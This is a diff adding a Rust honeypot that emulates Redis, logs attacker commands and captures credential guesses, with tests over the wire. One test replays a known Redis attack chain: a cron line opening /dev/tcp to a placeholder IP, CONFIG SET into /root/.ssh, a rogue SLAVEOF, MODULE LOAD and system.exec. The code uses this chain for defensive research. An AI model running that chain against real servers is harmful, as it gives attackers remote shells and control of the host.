@@ -1,0 +1,658 @@
+//! Medium-interaction Redis honeypot (RedisHoneyPot-style).
+//!
+//! Emulates the command set the original Go implementation answers (§4.1:
+//! "14 different operations commonly used with Redis, including commands
+//! such as SET, GET, DEL, FLUSHDB, and SLAVEOF") against a real
+//! [`KvStore`], plus the commands the observed campaigns need (`CONFIG`,
+//! `MODULE`, `SAVE`, `INFO`, `TYPE`). The fake-data variant preloads 200
+//! Mockaroo-style login entries (§4.2).
+//!
+//! Ethics parity with the paper: `MODULE LOAD` and `system.exec` record the
+//! attempt and answer an error; nothing is ever executed.
+
+use crate::logging::SessionLogger;
+use crate::low::read_or_fault;
+use decoy_net::codec::Framed;
+use decoy_net::error::NetResult;
+use decoy_net::proxy;
+use decoy_net::server::{SessionCtx, SessionHandler};
+use decoy_store::kv::{KvStore, ReplicationRole};
+use decoy_store::{EventStore, HoneypotId};
+use decoy_wire::resp::{as_command, RedisCommand, RespCodec, RespValue};
+use std::sync::Arc;
+use tokio::net::TcpStream;
+
+/// The medium-interaction Redis honeypot.
+pub struct RedisHoneypot {
+    store: Arc<EventStore>,
+    id: HoneypotId,
+    kv: Arc<KvStore>,
+}
+
+impl RedisHoneypot {
+    /// Default configuration: empty keyspace.
+    pub fn new(store: Arc<EventStore>, id: HoneypotId) -> Arc<Self> {
+        Arc::new(RedisHoneypot {
+            store,
+            id,
+            kv: Arc::new(KvStore::new()),
+        })
+    }
+
+    /// Fake-data configuration: preloaded `(username, password)` entries.
+    pub fn with_fake_data(
+        store: Arc<EventStore>,
+        id: HoneypotId,
+        entries: impl IntoIterator<Item = (String, String)>,
+    ) -> Arc<Self> {
+        Arc::new(RedisHoneypot {
+            store,
+            id,
+            kv: Arc::new(KvStore::with_entries(entries)),
+        })
+    }
+
+    /// The backing keyspace (forensics and tests).
+    pub fn kv(&self) -> &Arc<KvStore> {
+        &self.kv
+    }
+
+    fn execute(&self, cmd: &RedisCommand) -> RespValue {
+        match cmd.name.as_str() {
+            "PING" => RespValue::Simple("PONG".into()),
+            // modern clients (redis-cli 6+) open with HELLO; answer the
+            // RESP2 fallback map so they proceed
+            "HELLO" => RespValue::Array(vec![
+                RespValue::bulk("server"),
+                RespValue::bulk("redis"),
+                RespValue::bulk("version"),
+                RespValue::bulk("5.0.7"),
+                RespValue::bulk("proto"),
+                RespValue::Integer(2),
+                RespValue::bulk("mode"),
+                RespValue::bulk("standalone"),
+                RespValue::bulk("role"),
+                RespValue::bulk("master"),
+            ]),
+            "ECHO" => cmd
+                .args
+                .first()
+                .map(|a| RespValue::Bulk(a.clone()))
+                .unwrap_or_else(|| wrong_args("echo")),
+            "SELECT" => RespValue::Simple("OK".into()),
+            "AUTH" => RespValue::Error(
+                "ERR Client sent AUTH, but no password is set.".into(),
+            ),
+            "SET" => {
+                let (Some(key), Some(value)) = (cmd.arg_text(0), cmd.args.get(1)) else {
+                    return wrong_args("set");
+                };
+                self.kv.set(&key, value.clone());
+                RespValue::Simple("OK".into())
+            }
+            "GET" => {
+                let Some(key) = cmd.arg_text(0) else {
+                    return wrong_args("get");
+                };
+                match self.kv.get(&key) {
+                    Some(v) => RespValue::Bulk(v),
+                    None => RespValue::NullBulk,
+                }
+            }
+            "DEL" => {
+                let keys: Vec<String> = (0..cmd.args.len())
+                    .filter_map(|i| cmd.arg_text(i))
+                    .collect();
+                let refs: Vec<&str> = keys.iter().map(String::as_str).collect();
+                RespValue::Integer(self.kv.del(&refs) as i64)
+            }
+            "EXISTS" => {
+                let Some(key) = cmd.arg_text(0) else {
+                    return wrong_args("exists");
+                };
+                RespValue::Integer(self.kv.exists(&key) as i64)
+            }
+            "KEYS" => {
+                let pattern = cmd.arg_text(0).unwrap_or_else(|| "*".into());
+                RespValue::Array(
+                    self.kv
+                        .keys(&pattern)
+                        .into_iter()
+                        .map(RespValue::bulk)
+                        .collect(),
+                )
+            }
+            "TYPE" => {
+                let Some(key) = cmd.arg_text(0) else {
+                    return wrong_args("type");
+                };
+                RespValue::Simple(self.kv.type_of(&key).into())
+            }
+            "DBSIZE" => RespValue::Integer(self.kv.len() as i64),
+            "FLUSHDB" | "FLUSHALL" => {
+                self.kv.flush();
+                RespValue::Simple("OK".into())
+            }
+            "SAVE" => {
+                self.kv.save();
+                RespValue::Simple("OK".into())
+            }
+            "HSET" => {
+                let (Some(key), Some(field), Some(value)) =
+                    (cmd.arg_text(0), cmd.arg_text(1), cmd.args.get(2))
+                else {
+                    return wrong_args("hset");
+                };
+                RespValue::Integer(self.kv.hset(&key, &field, value.clone()) as i64)
+            }
+            "HGET" => {
+                let (Some(key), Some(field)) = (cmd.arg_text(0), cmd.arg_text(1)) else {
+                    return wrong_args("hget");
+                };
+                match self.kv.hget(&key, &field) {
+                    Some(v) => RespValue::Bulk(v),
+                    None => RespValue::NullBulk,
+                }
+            }
+            "HGETALL" => {
+                let Some(key) = cmd.arg_text(0) else {
+                    return wrong_args("hgetall");
+                };
+                let mut items = Vec::new();
+                for (field, value) in self.kv.hgetall(&key) {
+                    items.push(RespValue::bulk(field));
+                    items.push(RespValue::Bulk(value));
+                }
+                RespValue::Array(items)
+            }
+            "RPUSH" | "LPUSH" => {
+                let Some(key) = cmd.arg_text(0) else {
+                    return wrong_args("rpush");
+                };
+                if cmd.args.len() < 2 {
+                    return wrong_args("rpush");
+                }
+                RespValue::Integer(self.kv.rpush(&key, cmd.args[1..].to_vec()) as i64)
+            }
+            "LRANGE" => {
+                let (Some(key), Some(start), Some(stop)) =
+                    (cmd.arg_text(0), cmd.arg_text(1), cmd.arg_text(2))
+                else {
+                    return wrong_args("lrange");
+                };
+                let (Ok(start), Ok(stop)) = (start.parse::<i64>(), stop.parse::<i64>())
+                else {
+                    return RespValue::Error(
+                        "ERR value is not an integer or out of range".into(),
+                    );
+                };
+                RespValue::Array(
+                    self.kv
+                        .lrange(&key, start, stop)
+                        .into_iter()
+                        .map(RespValue::Bulk)
+                        .collect(),
+                )
+            }
+            "LLEN" => {
+                let Some(key) = cmd.arg_text(0) else {
+                    return wrong_args("llen");
+                };
+                RespValue::Integer(self.kv.llen(&key) as i64)
+            }
+            "INFO" => RespValue::Bulk(self.info_text(cmd.arg_text(0)).into_bytes()),
+            "CONFIG" => match cmd.arg_text(0).map(|s| s.to_uppercase()).as_deref() {
+                Some("GET") => {
+                    let param = cmd.arg_text(1).unwrap_or_else(|| "*".into());
+                    let mut items = Vec::new();
+                    for (k, v) in self.kv.config_get(&param) {
+                        items.push(RespValue::bulk(k));
+                        items.push(RespValue::bulk(v));
+                    }
+                    RespValue::Array(items)
+                }
+                Some("SET") => {
+                    let (Some(param), Some(value)) = (cmd.arg_text(1), cmd.arg_text(2))
+                    else {
+                        return wrong_args("config|set");
+                    };
+                    self.kv.config_set(&param, &value);
+                    RespValue::Simple("OK".into())
+                }
+                _ => RespValue::Error(
+                    "ERR Unknown CONFIG subcommand or wrong number of arguments".into(),
+                ),
+            },
+            "SLAVEOF" | "REPLICAOF" => {
+                let host = cmd.arg_text(0).unwrap_or_default();
+                let port = cmd.arg_text(1).unwrap_or_default();
+                if host.eq_ignore_ascii_case("no") && port.eq_ignore_ascii_case("one") {
+                    self.kv.set_role(ReplicationRole::Master);
+                } else if let Ok(port) = port.parse::<u16>() {
+                    self.kv.set_role(ReplicationRole::SlaveOf { host, port });
+                } else {
+                    return RespValue::Error("ERR Invalid master port".into());
+                }
+                RespValue::Simple("OK".into())
+            }
+            "MODULE" => match cmd.arg_text(0).map(|s| s.to_uppercase()).as_deref() {
+                Some("LOAD") => {
+                    let path = cmd.arg_text(1).unwrap_or_default();
+                    self.kv.module_load(&path);
+                    // Real Redis errors unless the .so is valid; the rogue
+                    // module never is (we never wrote the attacker's file).
+                    RespValue::Error(format!("ERR Error loading the extension: {path}"))
+                }
+                Some("UNLOAD") => {
+                    let name = cmd.arg_text(1).unwrap_or_default();
+                    if self.kv.module_unload(&name) {
+                        RespValue::Simple("OK".into())
+                    } else {
+                        RespValue::Error(format!("ERR Error unloading module: no such module {name}"))
+                    }
+                }
+                Some("LIST") => RespValue::Array(vec![]),
+                _ => RespValue::Error("ERR Unknown MODULE subcommand".into()),
+            },
+            // `system.exec` / `eval` arrive from rogue-module and CVE
+            // exploits; with no module loaded they fail exactly like this.
+            "SYSTEM.EXEC" => RespValue::Error("ERR unknown command 'system.exec'".into()),
+            "EVAL" => RespValue::Error(
+                "ERR Error compiling script (new function): user_script:1".into(),
+            ),
+            other => RespValue::Error(format!("ERR unknown command '{other}'")),
+        }
+    }
+
+    fn info_text(&self, _section: Option<String>) -> String {
+        let role = match self.kv.role() {
+            ReplicationRole::Master => "role:master".to_string(),
+            ReplicationRole::SlaveOf { host, port } => {
+                format!("role:slave\r\nmaster_host:{host}\r\nmaster_port:{port}")
+            }
+        };
+        format!(
+            "# Server\r\nredis_version:5.0.7\r\nredis_mode:standalone\r\nos:Linux 4.15.0 x86_64\r\n\
+             tcp_port:6379\r\n# Clients\r\nconnected_clients:1\r\n# Replication\r\n{role}\r\n\
+             connected_slaves:0\r\n# Keyspace\r\ndb0:keys={},expires=0,avg_ttl=0\r\n",
+            self.kv.len()
+        )
+    }
+}
+
+impl SessionHandler for RedisHoneypot {
+    async fn handle(self: Arc<Self>, mut stream: TcpStream, ctx: SessionCtx) {
+        let (proxied, initial) = match proxy::maybe_read_v1(&mut stream).await {
+            Ok(pair) => pair,
+            Err(_) => return,
+        };
+        let log = SessionLogger::new(
+            self.store.clone(),
+            self.id,
+            ctx,
+            proxied.map(|sa| sa.ip()),
+        );
+        log.connect();
+        if let Err(e) = self.session(stream, initial, &log).await {
+            if e.is_peer_fault() {
+                log.malformed(e.to_string());
+            }
+        }
+        log.disconnect();
+    }
+}
+
+impl RedisHoneypot {
+    async fn session(
+        &self,
+        stream: TcpStream,
+        initial: bytes::BytesMut,
+        log: &SessionLogger,
+    ) -> NetResult<()> {
+        let mut framed = Framed::with_initial(stream, RespCodec::server(), initial);
+        loop {
+            let value = read_or_fault!(framed, log);
+            let Some(cmd) = as_command(&value) else {
+                framed
+                    .write_frame(&RespValue::Error(
+                        "ERR Protocol error: expected command".into(),
+                    ))
+                    .await?;
+                continue;
+            };
+            if let RespValue::Inline(line) = &value {
+                let plausible = cmd.name.len() <= 20
+                    && cmd
+                        .name
+                        .chars()
+                        .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
+                if decoy_wire::foreign::recognize(line.as_bytes()).is_some() || !plausible {
+                    log.payload(line.as_bytes());
+                    framed
+                        .write_frame(&RespValue::Error(
+                            "ERR Protocol error: unbalanced quotes in request".into(),
+                        ))
+                        .await?;
+                    continue;
+                }
+            }
+            log.command(&cmd.render());
+            if cmd.name == "AUTH" {
+                // no password is set, but the guess is still a credential
+                // capture (the 5-IP Redis brute cluster of Table 9)
+                let (username, password) = if cmd.args.len() > 1 {
+                    (
+                        cmd.arg_text(0).unwrap_or_default(),
+                        cmd.arg_text(1).unwrap_or_default(),
+                    )
+                } else {
+                    ("default".to_string(), cmd.arg_text(0).unwrap_or_default())
+                };
+                log.login(&username, &password, false);
+            }
+            if cmd.name == "QUIT" {
+                framed
+                    .write_frame(&RespValue::Simple("OK".into()))
+                    .await?;
+                return Ok(());
+            }
+            let reply = self.execute(&cmd);
+            framed.write_frame(&reply).await?;
+        }
+    }
+}
+
+fn wrong_args(cmd: &str) -> RespValue {
+    RespValue::Error(format!("ERR wrong number of arguments for '{cmd}' command"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use decoy_net::server::{Listener, ListenerOptions, ServerHandle};
+    use decoy_net::time::Clock;
+    use decoy_store::{ConfigVariant, Dbms, EventKind, InteractionLevel};
+
+    async fn spawn(fake_data: bool) -> (ServerHandle, Arc<EventStore>, Arc<RedisHoneypot>) {
+        let store = EventStore::new();
+        let id = HoneypotId::new(
+            Dbms::Redis,
+            InteractionLevel::Medium,
+            if fake_data {
+                ConfigVariant::FakeData
+            } else {
+                ConfigVariant::Default
+            },
+            0,
+        );
+        let hp = if fake_data {
+            RedisHoneypot::with_fake_data(
+                store.clone(),
+                id,
+                (0..5).map(|i| (format!("user:{i}"), format!("pw{i}"))),
+            )
+        } else {
+            RedisHoneypot::new(store.clone(), id)
+        };
+        let server = Listener::bind(
+            "127.0.0.1:0".parse().unwrap(),
+            hp.clone(),
+            ListenerOptions {
+                max_sessions: 64,
+                clock: Clock::simulated(),
+            },
+        )
+        .await
+        .unwrap();
+        (server, store, hp)
+    }
+
+    async fn roundtrip(
+        framed: &mut Framed<TcpStream, RespCodec>,
+        parts: &[&str],
+    ) -> RespValue {
+        framed
+            .write_frame(&RespValue::command(parts))
+            .await
+            .unwrap();
+        framed.read_frame().await.unwrap().unwrap()
+    }
+
+    #[tokio::test]
+    async fn crud_commands_hit_the_real_store() {
+        let (server, _store, hp) = spawn(false).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, RespCodec::client());
+        assert_eq!(
+            roundtrip(&mut f, &["SET", "x", "hello"]).await,
+            RespValue::Simple("OK".into())
+        );
+        assert_eq!(
+            roundtrip(&mut f, &["GET", "x"]).await,
+            RespValue::bulk("hello")
+        );
+        assert_eq!(roundtrip(&mut f, &["DBSIZE"]).await, RespValue::Integer(1));
+        assert_eq!(
+            roundtrip(&mut f, &["TYPE", "x"]).await,
+            RespValue::Simple("string".into())
+        );
+        assert_eq!(roundtrip(&mut f, &["DEL", "x"]).await, RespValue::Integer(1));
+        assert_eq!(roundtrip(&mut f, &["GET", "x"]).await, RespValue::NullBulk);
+        server.shutdown().await;
+        assert!(hp.kv().is_empty());
+    }
+
+    #[tokio::test]
+    async fn fake_data_type_walk_like_the_paper() {
+        // §6: "after retrieving the full list of database entries, used the
+        // TYPE command on each entry individually".
+        let (server, store, _hp) = spawn(true).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, RespCodec::client());
+        let RespValue::Array(keys) = roundtrip(&mut f, &["KEYS", "*"]).await else {
+            panic!("expected key list");
+        };
+        assert_eq!(keys.len(), 5);
+        for key in &keys {
+            let name = key.as_text().unwrap();
+            let reply = roundtrip(&mut f, &["TYPE", &name]).await;
+            assert_eq!(reply, RespValue::Simple("string".into()));
+        }
+        server.shutdown().await;
+        let commands = store.filter(|e| matches!(e.kind, EventKind::Command { .. }));
+        assert_eq!(commands.len(), 1 + 5); // KEYS + five TYPEs
+    }
+
+    #[tokio::test]
+    async fn p2pinfect_command_sequence_is_served_and_logged() {
+        // Condensed Listing 1.
+        let (server, store, hp) = spawn(false).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, RespCodec::client());
+        roundtrip(&mut f, &["INFO", "server"]).await;
+        roundtrip(&mut f, &["FLUSHDB"]).await;
+        roundtrip(&mut f, &["SET", "x", "\n\n*/1 * * * * root exec 6<>/dev/tcp/198.51.100.3/8080\n\n"]).await;
+        assert_eq!(
+            roundtrip(&mut f, &["CONFIG", "SET", "dir", "/root/.ssh/"]).await,
+            RespValue::Simple("OK".into())
+        );
+        roundtrip(&mut f, &["CONFIG", "SET", "dbfilename", "authorized_keys"]).await;
+        roundtrip(&mut f, &["SAVE"]).await;
+        assert_eq!(
+            roundtrip(&mut f, &["CONFIG", "SET", "dir", "/tmp/"]).await,
+            RespValue::Simple("OK".into())
+        );
+        roundtrip(&mut f, &["CONFIG", "SET", "dbfilename", "exp.so"]).await;
+        assert_eq!(
+            roundtrip(&mut f, &["SLAVEOF", "198.51.100.3", "8886"]).await,
+            RespValue::Simple("OK".into())
+        );
+        let module_reply = roundtrip(&mut f, &["MODULE", "LOAD", "/tmp/exp.so"]).await;
+        assert!(matches!(module_reply, RespValue::Error(_)));
+        assert_eq!(
+            roundtrip(&mut f, &["SLAVEOF", "NO", "ONE"]).await,
+            RespValue::Simple("OK".into())
+        );
+        let exec_reply = roundtrip(&mut f, &["system.exec", "rm -rf /tmp/exp.so"]).await;
+        assert!(matches!(exec_reply, RespValue::Error(_)));
+        server.shutdown().await;
+
+        // forensics: the module path was recorded, nothing executed
+        assert_eq!(hp.kv().loaded_modules(), vec!["/tmp/exp.so"]);
+        assert_eq!(hp.kv().role(), ReplicationRole::Master);
+        // the SLAVEOF command is logged with masked ip/port for clustering
+        let slaveof = store.filter(|e| {
+            matches!(&e.kind, EventKind::Command { action, .. } if action == "SLAVEOF <IP> <N>")
+        });
+        assert_eq!(slaveof.len(), 1);
+    }
+
+    #[tokio::test]
+    async fn hash_and_list_commands_over_the_wire() {
+        let (server, _store, _hp) = spawn(false).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, RespCodec::client());
+        assert_eq!(
+            roundtrip(&mut f, &["HSET", "session", "user", "root"]).await,
+            RespValue::Integer(1)
+        );
+        assert_eq!(
+            roundtrip(&mut f, &["HGET", "session", "user"]).await,
+            RespValue::bulk("root")
+        );
+        let RespValue::Array(pairs) = roundtrip(&mut f, &["HGETALL", "session"]).await
+        else {
+            panic!();
+        };
+        assert_eq!(pairs.len(), 2);
+        assert_eq!(
+            roundtrip(&mut f, &["RPUSH", "queue", "a", "b"]).await,
+            RespValue::Integer(2)
+        );
+        assert_eq!(
+            roundtrip(&mut f, &["LRANGE", "queue", "0", "-1"]).await,
+            RespValue::Array(vec![RespValue::bulk("a"), RespValue::bulk("b")])
+        );
+        assert_eq!(
+            roundtrip(&mut f, &["LLEN", "queue"]).await,
+            RespValue::Integer(2)
+        );
+        assert_eq!(
+            roundtrip(&mut f, &["TYPE", "queue"]).await,
+            RespValue::Simple("list".into())
+        );
+        server.shutdown().await;
+    }
+
+    #[tokio::test]
+    async fn info_reflects_replication_role() {
+        let (server, _store, _hp) = spawn(false).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, RespCodec::client());
+        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO"]).await else {
+            panic!();
+        };
+        let text = String::from_utf8_lossy(&info).into_owned();
+        assert!(text.contains("role:master"));
+        assert!(text.contains("redis_version:5.0.7"));
+        roundtrip(&mut f, &["SLAVEOF", "198.51.100.9", "8886"]).await;
+        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO"]).await else {
+            panic!();
+        };
+        let text = String::from_utf8_lossy(&info).into_owned();
+        assert!(text.contains("role:slave"));
+        assert!(text.contains("master_port:8886"));
+        server.shutdown().await;
+    }
+
+    #[tokio::test]
+    async fn echo_select_exists_and_config_get() {
+        let (server, _store, _hp) = spawn(false).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, RespCodec::client());
+        assert_eq!(
+            roundtrip(&mut f, &["ECHO", "hello"]).await,
+            RespValue::bulk("hello")
+        );
+        assert_eq!(
+            roundtrip(&mut f, &["SELECT", "0"]).await,
+            RespValue::Simple("OK".into())
+        );
+        assert_eq!(
+            roundtrip(&mut f, &["EXISTS", "nope"]).await,
+            RespValue::Integer(0)
+        );
+        let RespValue::Array(pairs) = roundtrip(&mut f, &["CONFIG", "GET", "dir"]).await
+        else {
+            panic!("expected config pairs");
+        };
+        assert_eq!(pairs[0], RespValue::bulk("dir"));
+        assert_eq!(pairs[1], RespValue::bulk("/var/lib/redis"));
+        // AUTH with no server password set: error, but credentials captured
+        let reply = roundtrip(&mut f, &["AUTH", "secret123"]).await;
+        assert!(matches!(reply, RespValue::Error(_)));
+        // wrong-arity commands answer arity errors, not crashes
+        let reply = roundtrip(&mut f, &["GET"]).await;
+        assert!(matches!(reply, RespValue::Error(_)));
+        server.shutdown().await;
+    }
+
+    #[tokio::test]
+    async fn auth_guesses_are_credential_captures() {
+        let (server, store, _hp) = spawn(false).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, RespCodec::client());
+        roundtrip(&mut f, &["AUTH", "redis123"]).await;
+        roundtrip(&mut f, &["AUTH", "acluser", "aclpass"]).await;
+        server.shutdown().await;
+        let logins: Vec<(String, String)> = store
+            .all()
+            .into_iter()
+            .filter_map(|e| match e.kind {
+                EventKind::LoginAttempt {
+                    username, password, ..
+                } => Some((username, password)),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(
+            logins,
+            vec![
+                ("default".to_string(), "redis123".to_string()),
+                ("acluser".to_string(), "aclpass".to_string()),
+            ]
+        );
+    }
+
+    #[tokio::test]
+    async fn hello_answers_resp2_fallback() {
+        let (server, _store, _hp) = spawn(false).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, RespCodec::client());
+        let RespValue::Array(fields) = roundtrip(&mut f, &["HELLO"]).await else {
+            panic!("expected HELLO map");
+        };
+        assert!(fields.contains(&RespValue::bulk("version")));
+        assert!(fields.contains(&RespValue::bulk("5.0.7")));
+        server.shutdown().await;
+    }
+
+    #[tokio::test]
+    async fn unknown_commands_error_and_are_logged() {
+        let (server, store, _hp) = spawn(false).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, RespCodec::client());
+        let reply = roundtrip(&mut f, &["TOTALLYBOGUS"]).await;
+        assert_eq!(
+            reply,
+            RespValue::Error("ERR unknown command 'TOTALLYBOGUS'".into())
+        );
+        server.shutdown().await;
+        assert_eq!(
+            store
+                .filter(|e| matches!(e.kind, EventKind::Command { .. }))
+                .len(),
+            1
+        );
+    }
+}
